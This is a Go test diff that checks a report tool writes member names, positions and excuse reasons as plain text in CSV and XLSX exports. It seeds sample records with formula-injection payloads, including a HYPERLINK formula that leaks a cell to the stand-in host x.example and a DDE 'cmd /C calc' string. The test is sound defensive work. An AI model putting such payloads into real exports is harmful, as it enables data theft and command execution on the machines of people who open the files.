@@ -305,3 +305,51 @@ func TestReportUnitsNotesWebPreviews(t *testing.T) {
 		t.Errorf("stderr = %q, want %q", errOut, want)
 	}
 }
+
+// Names, positions and reasons come from people: in a report they are text,
+// never a formula that runs when the file is opened in Excel or LibreOffice.
+func TestReportCommandNeutralisesFormulas(t *testing.T) {
+	db, getenv := reportDB(t)
+	if _, err := db.Exec(`UPDATE members SET full_name = '=HYPERLINK("http://x.example/?"&C2,"Xem")' WHERE id = 10;
+		UPDATE members SET position = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE id = 11;
+		UPDATE members SET position = E'\t=1+1' WHERE id = 12;
+		UPDATE excuses SET reason = '-2+3' WHERE member_id = 13 AND round_id = 1;
+		UPDATE excuses SET reason = '+đi học' WHERE member_id = 11 AND round_id = 1`); err != nil {
+		t.Fatal(err)
+	}
+	code, out, errOut := runReport(t, getenv, "absent", "--round", "1")
+	if code != 0 {
+		t.Fatalf("exit %d: %s", code, errOut)
+	}
+	want := `unit_code,full_name,phone,position,verified,reason
+SGD,Bùi Văn Phúc,0912000013,Bảo vệ,không,'-2+3
+SGD,Lê Văn Long,0912000011,'@SUM(1+1)*cmd|' /C calc'!A0,có,'+đi học
+SGD,Phan Thị Nga,0912000012,'` + "\t" + `=1+1,có,
+SNV,"'=HYPERLINK(""http://x.example/?""&C2,""Xem"")",0912000010,Văn thư,không,chưa kích hoạt
+`
+	if out != want {
+		t.Errorf("absent csv =\n%s\nwant\n%s", out, want)
+	}
+
+	// The heads' cards attach the same tables as a workbook: text cells.
+	p := filepath.Join(t.TempDir(), "absent.xlsx")
+	if code, _, errOut := runReport(t, getenv, "absent", "--round", "1", "--out", p); code != 0 {
+		t.Fatalf("xlsx: exit %d: %s", code, errOut)
+	}
+	f, err := excelize.OpenFile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	for cell, want := range map[string]string{
+		"F2": "-2+3", "D3": "@SUM(1+1)*cmd|' /C calc'!A0", "F3": "+đi học", "D4": "\t=1+1",
+		"B5": `=HYPERLINK("http://x.example/?"&C2,"Xem")`,
+	} {
+		typ, _ := f.GetCellType("absent", cell)
+		formula, _ := f.GetCellFormula("absent", cell)
+		v, _ := f.GetCellValue("absent", cell)
+		if typ != excelize.CellTypeInlineString || formula != "" || v != want {
+			t.Errorf("absent!%s: type %v, formula %q, value %q; want the text %q", cell, typ, formula, v, want)
+		}
+	}
+}
